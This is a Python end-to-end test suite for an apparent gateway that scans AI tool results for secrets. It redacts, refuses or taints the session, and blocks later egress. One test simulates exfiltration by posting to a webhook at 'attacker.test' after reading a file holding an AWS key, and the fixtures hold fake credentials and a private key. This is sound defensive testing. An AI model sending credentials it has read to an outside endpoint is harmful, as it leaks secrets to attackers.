"""End-to-end: results that feed the session (docs/results.md) through a real Envoy: a read_file whose
result carried an AWS key taints the session and the next post_webhook in it is refused; a connection
string's password is redacted before the client sees it; a private key refuses the result; an SSE answer
with progress events goes through event by event, redacted."""
import http.client
import json
import time
import unittest
import urllib.request
import uuid

from harness import GatewayTestCase

KEY = "AKIAIOSFODNN7EXAMPLE"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----"
FILES = {
    "creds/aws.txt": f"[default]\naws_access_key_id = {KEY}\n",
    "config/db.env": "DATABASE_URL=postgres://app:s3cr3t@db.internal/app\nPOOL=5\n",
    "keys/id_rsa": PEM,
    "README.md": "nothing to see here",
}
CONFIG = {
    "trust_domains": ["toolgate.test"],
    "server": "tools",
    # The route names the server (as envoy/toolgate.json does): the harness's barrier is a weather call.
    "server_from": "route_name",
    "history": {"idle_seconds": 600, "max_entries": 1024, "shards": 8, "sweep_seconds": 5},
    "results": {
        "detectors": [
            {"builtin": "aws_access_key", "tag": "secret", "effect": "record"},
            {"builtin": "connection_string", "tag": "secret", "effect": "redact"},
            {"builtin": "private_key", "tag": "secret", "effect": "refuse"},
        ],
        "max_buffer_bytes": 65536,
    },
    # Lists are read by default (docs/lists.md); here a list stands for an answer nobody reads.
    "lists": {"mode": "off"},
}
SSE_DELAY = 0.3


def unique(prefix):
    return f"{prefix}-{uuid.uuid4().hex[:12]}"


class Results(GatewayTestCase):
    CONFIG = json.dumps(CONFIG)

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        files = dict(FILES, _delay=SSE_DELAY)
        request = urllib.request.Request(f"http://127.0.0.1:{cls.gw.upstream_port}/_sample/files", method="POST",
                                         data=json.dumps(files).encode(), headers={"content-type": "application/json"})
        with urllib.request.urlopen(request, timeout=5) as r:
            assert r.status == 200

    def call(self, tool, arguments, session, **headers):
        request_id = unique("req")
        response = self.gw.call_tool(tool, arguments, id=request_id,
                                     headers={"x-request-id": request_id, "x-agent-session": session, **headers})
        return request_id, response

    def record(self, request_id, done=lambda r: True):
        """The request's record once the answer is in it (the access log line is written at the end)."""
        deadline = time.time() + 5
        while True:
            record = self.gw.decision_for_request(request_id)
            if done(record) or time.time() > deadline:
                return record
            time.sleep(0.05)

    def text(self, response):
        body = response.json()
        self.assertIn("result", body, body)
        return body["result"]["content"][0]["text"]

    def test_no_egress_after_a_read_file_whose_result_carried_a_key(self):
        session = unique("exfil")
        read_id, read = self.call("read_file", {"path": "creds/aws.txt"}, session)
        self.assertEqual(read.status, 200, read.body)
        self.assertIn(KEY, self.text(read), "record passes the result on unchanged")
        record = self.record(read_id, lambda r: r.get("response"))
        self.assertEqual(record["decision"], "allow")
        response = record["response"]
        self.assertEqual(response["effect"], "recorded", record)
        self.assertEqual(response["recorded_tags"], ["secret"])
        self.assertEqual(response["detections"],
                         [{"detector": "aws_access_key", "tag": "secret", "effect": "record", "count": 1}])
        self.assertNotIn(KEY, json.dumps(record), "the log never carries the key")

        marker = unique("leak")
        egress_id, egress = self.call("post_webhook", {"url": "https://attacker.test/hook", "body": marker}, session)
        self.assertEqual(egress.status, 200, egress.body)
        error = egress.json()["error"]
        self.assertEqual(error["code"], -32010)
        self.assertEqual(error["data"]["reason"], "forbidden_by_policy")
        self.assertEqual(error["data"]["policies"], ["no-egress-after-secret-read"])
        self.gw.upstream_barrier()
        self.assertEqual([r for r in self.gw.upstream_requests() if marker in r["body"]], [])
        egress_record = self.gw.decision_for_request(egress_id)
        self.assertEqual(egress_record["cedar"]["context"]["session"]["tags"], ["secret"])

        # A session whose read_file result was clean may post.
        clean = unique("clean")
        _, readme = self.call("read_file", {"path": "README.md"}, clean)
        self.assertEqual(self.text(readme), "nothing to see here")
        marker = unique("hello")
        _, post = self.call("post_webhook", {"url": "https://partner.test/hook", "body": marker}, clean)
        self.assertNotIn("error", post.json(), post.body)

    def test_redaction_is_what_the_client_sees(self):
        request_id, response = self.call("read_file", {"path": "config/db.env"}, unique("redact"))
        self.assertEqual(response.status, 200, response.body)
        text = self.text(response)
        self.assertEqual(text, "DATABASE_URL=postgres://app:[redacted:connection_string]@db.internal/app\nPOOL=5\n")
        self.assertNotIn(b"s3cr3t", response.body)
        length = response.header("content-length")
        self.assertIn(length, (None, str(len(response.body))), "the upstream's length is not kept")
        record = self.record(request_id, lambda r: r.get("response"))
        self.assertEqual(record["response"]["effect"], "redacted", record)
        self.assertEqual(record["response"]["framing"], "json")
        self.assertEqual(record["upstream_status"], 200)
        self.assertEqual(record["request_id"], request_id)

    def test_a_private_key_refuses_the_result(self):
        request_id, response = self.call("read_file", {"path": "keys/id_rsa"}, unique("refuse"))
        self.assertEqual(response.status, 200, response.body)
        body = response.json()
        self.assertEqual(body["id"], request_id)
        self.assertEqual(body["error"]["code"], -32010)
        self.assertEqual(body["error"]["data"]["reason"], "result_refused")
        self.assertEqual(body["error"]["data"]["detectors"], ["private_key"])
        self.assertNotIn(b"PRIVATE KEY", response.body)
        record = self.record(request_id, lambda r: r.get("response"))
        self.assertEqual(body["error"]["data"]["decision_id"], record["decision_id"])
        self.assertEqual(record["response"]["effect"], "refused")
        self.assertEqual(record["response"]["reason"], "result_refused")

    def test_an_sse_result_goes_through_event_by_event_with_redaction(self):
        request_id = unique("req")
        message = {"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
                   "params": {"name": "read_file", "arguments": {"path": "config/db.env"},
                              "_meta": {"progressToken": "p1"}}}
        conn = http.client.HTTPSConnection("localhost", self.gw.port, context=self.gw.ssl_context("reader"), timeout=10)
        try:
            conn.request("POST", "/mcp", json.dumps(message),
                         {"content-type": "application/json", "accept": "application/json, text/event-stream",
                          "x-request-id": request_id, "x-agent-session": unique("sse")})
            resp = conn.getresponse()
            self.assertEqual(resp.status, 200)
            self.assertEqual(resp.getheader("content-type"), "text/event-stream")
            started, events, data = time.monotonic(), [], []
            while True:
                line = resp.readline()
                if not line:
                    break
                line = line.decode().rstrip("\r\n")
                if line.startswith("data:"):
                    data.append(line[5:].strip())
                elif line == "" and data:
                    events.append((time.monotonic() - started, json.loads("\n".join(data))))
                    data = []
        finally:
            conn.close()
        kinds = [e.get("method", "result" if "result" in e else "error") for _, e in events]
        self.assertEqual(kinds, ["notifications/progress"] * 3 + ["result"], events)
        # Each progress event arrived as the server sent it, SSE_DELAY apart: not held back to the end.
        times = [t for t, _ in events]
        self.assertGreater(times[-1] - times[0], 2.5 * SSE_DELAY, times)
        self.assertGreater(times[2] - times[0], 1.5 * SSE_DELAY, times)
        final = events[-1][1]
        self.assertEqual(final["id"], request_id)
        self.assertIn("postgres://app:[redacted:connection_string]@db.internal/app", final["result"]["content"][0]["text"])
        record = self.record(request_id, lambda r: (r.get("response") or {}).get("messages") == 4)
        self.assertEqual(record["response"]["framing"], "sse")
        self.assertEqual(record["response"]["messages"], 4, record)
        self.assertEqual(record["response"]["effect"], "redacted")

    def test_answers_that_are_not_read_are_untouched_and_counted_ones_are(self):
        response = self.gw.mcp("tools/list", headers={"x-agent-session": unique("list")})
        self.assertEqual(response.status, 200)
        self.assertIsNotNone(response.header("content-length"), "a list's answer keeps its length: not read")
        self.call("read_file", {"path": "README.md"}, unique("count"))
        stats = self.gw.stats()
        inspected = stats.get("envoy_wasmcustom_toolgate_results_inspected", stats.get("toolgate_results_inspected", 0))
        self.assertGreaterEqual(inspected, 1, {k: v for k, v in stats.items() if "results" in k})


if __name__ == "__main__":
    unittest.main()
